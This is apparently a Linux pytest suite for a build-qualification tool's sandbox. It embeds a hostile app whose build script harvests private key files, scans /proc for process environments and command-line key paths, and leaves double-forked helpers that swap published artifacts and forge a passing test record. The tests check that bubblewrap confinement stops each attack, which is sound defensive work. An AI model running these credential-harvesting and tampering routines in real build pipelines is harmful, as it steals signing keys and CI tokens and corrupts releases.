"""A hostile app against the real chain: its build, journey runner and rebuild are attacker code.

The attacker controls only the app's source and holds no key. Its build tries to read every private key it
can guess (the policy's key files, ``.pem`` files above its folder), the producer's environment through
``/proc`` (a canary OIDC request variable is set in the producer's environment), the checkout and the
producer's HOME; it leaves a double-forked helper in a session of its own that tries to swap the published
artifact after the job. Its journey runner writes a failing record and leaves a helper that keeps rewriting it
as passing after the runner exits. Under ``qualify rebuild --attest F --key K`` its build looks for the key's
path in every process's command line and reads it.

Each attack runs twice: confined, as the producer runs app code, where it must read nothing, leave nothing
running and change nothing; and with the confinement removed (the platform adapter replaced by
``Unconfined`` in the producer's process), where the same observations must show the attack succeeding, so
that each assertion is known to be able to fail.
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import json
import os
import signal
import subprocess
import sys
import tarfile
import time
from pathlib import Path
from typing import Any

import pytest
from desktop_qualify.producer.confinement import platform_confinement
from support.chain import commit_tree
from support.evidence_factory import Keys, make_keys, policy_text

pytestmark = [
    pytest.mark.skipif(sys.platform != "linux", reason="the hostile app's attacks are Linux process tricks"),
]

CANARY = "canary-oidc-request-token-5f1c"

# The build: loot what it can, leave a survivor, then build a normal tiny app whose bundle carries the loot.
BUILD = r'''
import json, os, pathlib, subprocess, sys, tarfile
out = pathlib.Path(sys.argv[sys.argv.index("--out") + 1])
known = json.loads(pathlib.Path("attack.json").read_text())
loot = {"secrets": {}, "environ": [], "cmdline_keys": {}}

def grab(path):
    try:
        loot["secrets"][str(path)] = pathlib.Path(path).read_text()[:120]
    except (OSError, UnicodeDecodeError):
        pass

for path in known["secrets"]:
    grab(path)
for parent in pathlib.Path.cwd().parents:
    for pattern in ("*.pem", "keys/*.pem", "keys/keys/*.pem", ".qualify/keys/*.pem"):
        for pem in parent.glob(pattern):
            grab(pem)
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            environ = pathlib.Path(f"/proc/{pid}/environ").read_bytes()
            cmdline = pathlib.Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        if known["canary"].encode() in environ:
            loot["environ"].append(pid)
        if b"--key" in cmdline:  # qualify rebuild --key K: read K
            key = cmdline[cmdline.index(b"--key") + 1].decode()
            try:
                loot["cmdline_keys"][key] = pathlib.Path(key).read_text()[:120]
            except OSError as exc:
                loot["cmdline_keys"][key] = f"unreadable: {exc.strerror}"
if known["canary"] in os.environ.values():
    loot["environ"].append("own")

# A helper in a session of its own, double-forked away from the build: it outlives a process-group kill.
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", known["survivor"], known["marker"]])
    os._exit(0)
os.wait()

bundle = out.parent / "stage" / "tiny"
bundle.mkdir(parents=True)
(bundle / "app.py").write_text(pathlib.Path("body.py").read_text())
(bundle / "build_info.json").write_text(pathlib.Path(os.environ["QUALIFY_BUILD_INFO"]).read_text())
(bundle / "loot.json").write_text(json.dumps(loot, sort_keys=True))
if known["tamper"]:
    (bundle / "tamper").write_text("the probe appends to the installed executable\n")
launcher = bundle / "tiny"
launcher.write_text(f'#!/bin/sh\nexec "{sys.executable}" "$(dirname "$0")/app.py" "$0" "$@"\n')
launcher.chmod(0o755)
with tarfile.open(out / "tiny-2.0.0-linux.tar.gz", "w:gz", compresslevel=6) as tf:
    tf.add(bundle, arcname="tiny")
'''

# What the survivor does once the job has published: replace every published artifact with its own bytes.
SURVIVOR = r'''
import pathlib, sys, time
deadline = time.time() + 30
while time.time() < deadline:
    for artifact in pathlib.Path(OUT, "artifacts").glob("tiny-*"):
        try:
            artifact.write_bytes(b"swapped by a process the build left behind\n")
        except OSError:
            pass
    time.sleep(0.2)
'''

APP_BODY = r'''
# CANARY-CHECKOUT: the checkout's copy of this file must stay out of a confined stage's reach
import hashlib, json, pathlib, sys
exe, args = pathlib.Path(sys.argv[1]), sys.argv[2:]
info = json.loads((pathlib.Path(__file__).resolve().parent / "build_info.json").read_text())
if args[:1] == ["version"]:
    print(json.dumps({"app_version": "2.0.0", "build_sha": info["build_sha"]}))
elif args[:1] == ["open"]:
    if "/" in args[1]:
        print(json.dumps({"refused": "TINY_PATH_DENIED"}))
        sys.exit(3)
    print(json.dumps({"opened": args[1]}))
elif args[:1] == ["probe"]:
    if (pathlib.Path(__file__).resolve().parent / "tamper").exists():
        try:
            with open(exe, "a") as fh:  # change what was installed, after the producer hashed it
                fh.write("# tampered by the probe\n")
        except OSError:
            pass
    record = {"kind": "qualify-probe", "version": 2, "app_version": "2.0.0", "build_sha": info["build_sha"],
              "platform": info["platform"], "executable_sha256": hashlib.sha256(exe.read_bytes()).hexdigest(),
              "checks": [{"name": "documents-readable", "passed": True, "detail": "ok"}]}
    pathlib.Path(args[args.index("--record") + 1]).write_text(json.dumps(record))
else:
    sys.exit(2)
'''

# The runner: the app refuses "../etc/passwd" but allows ".secret", which the policy requires refused, so the
# honest record fails; with the "forge" attack on, a helper left behind keeps rewriting the record as passing
# after the runner exits.
RUNNER = r'''
import argparse, json, os, subprocess, sys, time
ap = argparse.ArgumentParser()
ap.add_argument("--executable", required=True)
ap.add_argument("--record", required=True)
ns = ap.parse_args()
version = json.loads(subprocess.run([ns.executable, "version"], capture_output=True, text=True).stdout)

attack = json.load(open("attack.json"))

def step(name, target):
    done = subprocess.run([ns.executable, "open", target], capture_output=True, text=True)
    said = json.loads(done.stdout)
    return {"id": name, "observed": "reject" if done.returncode == 3 else "allow", "code": said.get("refused"),
            "errno": None, "detail": f"exit {done.returncode}"}

def record(steps):
    return json.dumps({"kind": "qualify-journey", "version": 2, "app_version": "2.0.0",
                       "build_sha": version["build_sha"], "platform": "linux", "steps": steps})

steps = [step("dotdot-refused", "../etc/passwd"), step("hidden-refused", ".secret")]
honest = record(steps)
forged = record([steps[0], {**steps[1], "observed": "reject", "code": "TINY_PATH_DENIED"}])
runner = os.getpid()
if attack["forge"]:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            # Wait for the runner to write its honest record and exit, then forge: "after it exits". The record
            # alone says it was written: the runner may exit and be reaped between two polls on a loaded machine.
            while True:
                try:
                    if open(ns.record).read() == honest:
                        break
                except OSError:
                    pass
                time.sleep(0.01)
            while True:
                try:
                    os.kill(runner, 0)
                    with open(f"/proc/{runner}/stat") as fh:
                        if fh.read().split(")")[-1].split()[0] == "Z":
                            break
                except OSError:
                    break
                time.sleep(0.01)
            deadline = time.time() + 8
            while time.time() < deadline:
                with open(ns.record, "w") as fh:
                    fh.write(forged)
                time.sleep(0.02)
            os._exit(0)
        os._exit(0)
    os.wait()
with open(ns.record, "w") as fh:
    fh.write(honest)
'''

APP_SECTION = """[app]
name = "tiny"
source = {source}

[app.build]
argv = ["{{python}}", "build.py", "--out", "{{out}}"]

[app.build.outputs]
linux = "tiny-*-linux.tar.gz"

[app.install]
linux = {{ kind = "archive", executable = "tiny/tiny" }}

[app.probe]
argv = ["{{executable}}", "probe", "--record", "{{record}}"]
require = ["documents-readable"]

[app.journey]
argv = ["{{python}}", "journey/run.py", "--executable", "{{executable}}", "--record", "{{record}}"]

[app.codes]
pattern = "^TINY_[A-Z_]{{1,32}}$"
"""
STEPS = 'dotdot-refused = { expect = "reject", code = "TINY_PATH_DENIED" }\n'
FORGED_STEP = 'hidden-refused = { expect = "reject", code = "TINY_PATH_DENIED" }\n'
CONFINEMENT = """
[confinement]
linux = ["user-namespace", "pid-namespace", "mount-namespace", "network-namespace", "no-capabilities",
         "private-home", "private-tmp", "dies-with-stage"]
network = ["build"]
"""

# Runs the CLI in a child, optionally with the platform's adapter replaced: the mutant "no confinement".
DRIVER = r'''
import sys
if sys.argv[1] == "unconfined":
    from desktop_qualify.producer.confinement import _choose, Unconfined
    _choose.platform_confinement = lambda platform: Unconfined("removed by the test (the mutant)")
from desktop_qualify.qualify_cli._main import main
sys.exit(main(sys.argv[2:]))
'''


def _bwrap_unavailable() -> str | None:
    return platform_confinement("linux").unavailable()


@pytest.fixture(scope="module", autouse=True)
def _needs_bubblewrap() -> None:
    why = _bwrap_unavailable()
    if why is not None:
        pytest.skip(f"the confined runs need bubblewrap: {why}")


def _marker(tmp_path: Path) -> str:
    return f"survivor-{hashlib.sha256(str(tmp_path).encode()).hexdigest()[:16]}"


def _hostile_repo(root: Path, out: Path, keys_dir: Path, *, forge: bool, tamper: bool) -> Path:
    repo = root / "repo"
    app = repo / "app"
    (app / "journey").mkdir(parents=True)
    (app / "body.py").write_text(APP_BODY)
    (app / "build.py").write_text(BUILD)
    (app / "journey" / "run.py").write_text(RUNNER)
    # The keys, a file of the checkout and one of the producer's HOME: paths an attacker can guess.
    secrets = [*sorted(str(p) for p in keys_dir.rglob("*") if p.is_file()), str(app / "body.py"),
               str(root / "home" / "canary.txt")]
    attack = {"canary": CANARY, "forge": forge, "tamper": tamper, "marker": _marker(root), "secrets": secrets,
              "survivor": SURVIVOR.replace("OUT", json.dumps(str(out)))}
    (app / "attack.json").write_text(json.dumps(attack))
    commit_tree(repo, "a hostile app")
    return repo


def _policy(root: Path, repo: Path, keys: Keys, *, confinement: bool, forge: bool) -> Path:
    text = policy_text(keys, required=["linux"], app=APP_SECTION.format(source=json.dumps(str(repo / "app"))),
                       journey_steps=STEPS + (FORGED_STEP if forge else ""), isolation=False)
    text = text.replace('name = "local"', 'name = "tiny"')
    policy = root / "tiny.toml"
    policy.write_text(text + (CONFINEMENT if confinement else ""), encoding="utf-8")
    return policy


def _cli(mode: str, *args: str | Path, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-c", DRIVER, mode, *map(str, args)], capture_output=True, text=True,
                          timeout=600, check=False, env=env)


def _survivors(marker: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if marker.encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                continue
    return found


def _kill(pids: list[int]) -> None:
    for pid in pids:
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)


def _loot(archive: Path) -> dict[str, Any]:
    with tarfile.open(archive) as tf:
        member = tf.extractfile("tiny/loot.json")
        assert member is not None
        return json.loads(member.read())


def _produce(tmp_path: Path, mode: str, *, forge: bool = True, tamper: bool = False) -> dict[str, Any]:
    out = tmp_path / "out"
    keys = make_keys(tmp_path / "keys")  # made before the repo: the attacker knows where they are
    repo = _hostile_repo(tmp_path, out, tmp_path / "keys", forge=forge, tamper=tamper)
    policy = _policy(tmp_path, repo, keys, confinement=mode == "confined", forge=forge)
    # The producer's own HOME, with a file in it that no stage may read.
    (tmp_path / "home").mkdir()
    (tmp_path / "home" / "canary.txt").write_text("CANARY-HOME\n")
    env = {**os.environ, "HOME": str(tmp_path / "home"), "ACTIONS_ID_TOKEN_REQUEST_TOKEN": CANARY,
           "ACTIONS_ID_TOKEN_REQUEST_URL": f"https://token.invalid/{CANARY}"}
    marker = _marker(tmp_path)
    try:
        produced = _cli(mode, "produce", "--policy", policy, "--platform", "linux", "--out", out, "--run-id",
                        "hostile-1", env=env)
        survivors = _survivors(marker)
        # The survivor swaps the artifact every 0.2 s: give it time to act before the artifact is judged.
        time.sleep(1.0)
        artifacts = sorted((out / "artifacts").glob("tiny-*"))
        statement = json.loads((out / "evidence" / "platform-linux.dsse.json").read_bytes()) \
            if (out / "evidence" / "platform-linux.dsse.json").is_file() else None
    finally:
        _kill(_survivors(marker))
    return {"produce": produced, "survivors": survivors, "artifacts": artifacts, "statement": statement,
            "policy": policy, "out": out, "repo": repo}


def _predicate(statement: dict[str, Any]) -> dict[str, Any]:
    return json.loads(base64.b64decode(statement["payload"]))["predicate"]


@pytest.fixture(scope="module")
def confined(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    return _produce(tmp_path_factory.mktemp("confined"), "confined", tamper=True)


@pytest.fixture(scope="module")
def unconfined(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    return _produce(tmp_path_factory.mktemp("unconfined"), "unconfined")


@pytest.fixture(scope="module")
def qualified(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """A confined run whose journey is honest (no forging helper): it qualifies, so it can be rebuilt."""
    done = _produce(tmp_path_factory.mktemp("qualified"), "confined", forge=False)
    assert done["produce"].returncode == 0, done["produce"].stdout + done["produce"].stderr
    evidence = done["out"] / "evidence"
    aggregated = _cli("confined", "aggregate", "--policy", done["policy"], "--evidence", evidence, "--out", evidence)
    assert aggregated.returncode == 0, aggregated.stdout + aggregated.stderr
    return done


def _reads(done: dict[str, Any]) -> dict[str, Any]:
    """What the build's loot says it read: key material, a checkout or HOME file, the canary environment."""
    # The build's own output, in the job's work folder: the published copy may have been swapped.
    built = sorted((done["out"] / "work" / "linux" / "out").glob("tiny-*"))
    # No output would mean the build never got to try: an empty loot must come from a build that ran.
    assert len(built) == 1, done["produce"].stderr
    loot = _loot(built[0])
    assert set(loot) == {"secrets", "environ", "cmdline_keys"}, loot
    return {"secrets": sorted(k for k, v in loot.get("secrets", {}).items()
                              if "PRIVATE KEY" in v or "CANARY-" in v),
            "environ": loot.get("environ", [])}


def test_a_confined_build_reads_no_key_no_token_no_checkout_no_home(confined: dict[str, Any]) -> None:
    produced = confined["produce"]
    assert produced.returncode in (0, 1), produced.stderr  # 1: the journey's refusal fails, as it must
    assert _reads(confined) == {"secrets": [], "environ": []}


def test_without_confinement_the_same_build_steals_them(unconfined: dict[str, Any]) -> None:
    stolen = _reads(unconfined)
    assert stolen["secrets"], "the mutant build read no private key: the attack test could not fail"
    assert stolen["environ"], "the mutant build saw no canary: the attack test could not fail"
    assert any(path.endswith(("body.py", "canary.txt")) for path in stolen["secrets"])


def test_nothing_the_confined_build_started_outlives_its_stage(confined: dict[str, Any]) -> None:
    assert confined["survivors"] == []
    statement = confined["statement"]
    assert statement is not None
    subject = json.loads(base64.b64decode(statement["payload"]))["subject"][0]
    [artifact] = confined["artifacts"]
    assert hashlib.sha256(artifact.read_bytes()).hexdigest() == subject["digest"]["sha256"]


def test_without_confinement_the_helper_survives_and_swaps_the_artifact(unconfined: dict[str, Any]) -> None:
    assert unconfined["survivors"], "the mutant left no survivor: the attack test could not fail"
    [artifact] = unconfined["artifacts"]
    assert artifact.read_bytes() == b"swapped by a process the build left behind\n"


def test_a_confined_journey_runner_cannot_rewrite_its_record_after_it_exits(confined: dict[str, Any]) -> None:
    journey = _predicate(confined["statement"])["journey"]
    assert [(s["id"], s["observed"], s["passed"]) for s in journey["steps"]] == [
        ("dotdot-refused", "reject", True), ("hidden-refused", "allow", False)]
    assert confined["produce"].returncode == 1


def test_without_confinement_the_runner_s_helper_forges_a_pass(unconfined: dict[str, Any]) -> None:
    journey = _predicate(unconfined["statement"])["journey"]
    assert [(s["id"], s["observed"]) for s in journey["steps"]] == [("dotdot-refused", "reject"),
                                                                      ("hidden-refused", "reject")]


def test_the_evidence_records_each_stage_s_confinement(confined: dict[str, Any],
                                                       unconfined: dict[str, Any]) -> None:
    stages = _predicate(confined["statement"])["confinement"]
    assert {s["stage"] for s in stages} == {"build", "probe", "journey"}
    for stage in stages:
        assert stage["mechanism"] == "bubblewrap"
        assert {"pid-namespace", "mount-namespace", "user-namespace", "dies-with-stage"} <= set(stage["layers"])
        assert stage["network"] == (stage["stage"] == "build")
        assert ("network-namespace" in stage["layers"]) == (stage["stage"] != "build")
    bare = _predicate(unconfined["statement"])["confinement"]
    assert {(s["mechanism"], tuple(s["layers"])) for s in bare} == {("none", ())}


def test_a_confined_probe_cannot_change_what_was_installed(confined: dict[str, Any]) -> None:
    produced = confined["produce"]
    assert "QE_APP_STAGE_TAMPERED" not in produced.stdout + produced.stderr
    probe = _predicate(confined["statement"])["launch_probe"]
    assert (probe["passed"], probe["executable_matches_install"]) == (True, True)


def test_without_confinement_the_producer_refuses_the_changed_install(tmp_path: Path) -> None:
    done = _produce(tmp_path, "unconfined", tamper=True)
    produced = done["produce"]
    assert produced.returncode == 1, produced.stderr
    assert "QE_APP_STAGE_TAMPERED" in produced.stdout + produced.stderr
    assert done["statement"] is None  # nothing signed for a run whose stage changed what it ran


def _rebuild(tmp_path: Path, done: dict[str, Any], mode: str) -> dict[str, Any]:
    key = tmp_path / f"rebuilder-{mode}" / "rebuilder.pem"
    key.parent.mkdir()
    from desktop_qualify.qualify_trust import generate_private_key

    generate_private_key(key)
    keep = tmp_path / f"kept-{mode}"
    marker = _marker(done["out"].parent)
    try:
        rebuilt = _cli(mode, "rebuild", "--policy", done["policy"], "--evidence", done["out"] / "evidence",
                       "--attest", tmp_path / f"attest-{mode}.json", "--key", key, "--keep", keep)
    finally:
        _kill(_survivors(marker))
    kept = sorted(keep.glob("tiny-*")) if keep.is_dir() else []
    return {"rebuild": rebuilt, "key": str(key), "loot": _loot(kept[0]) if kept else None}


def test_a_confined_rebuild_never_sees_the_rebuilder_s_key(qualified: dict[str, Any], tmp_path: Path) -> None:
    done = _rebuild(tmp_path, qualified, "confined")
    assert done["loot"] is not None, done["rebuild"].stderr
    assert done["loot"]["cmdline_keys"] == {}
    assert not [k for k, v in done["loot"]["secrets"].items() if "PRIVATE KEY" in v]


def test_without_confinement_the_rebuild_steals_the_rebuilder_s_key(qualified: dict[str, Any],
                                                                     tmp_path: Path) -> None:
    done = _rebuild(tmp_path, qualified, "unconfined")
    assert done["loot"] is not None, done["rebuild"].stderr
    assert "PRIVATE KEY" in done["loot"]["cmdline_keys"].get(done["key"], "")
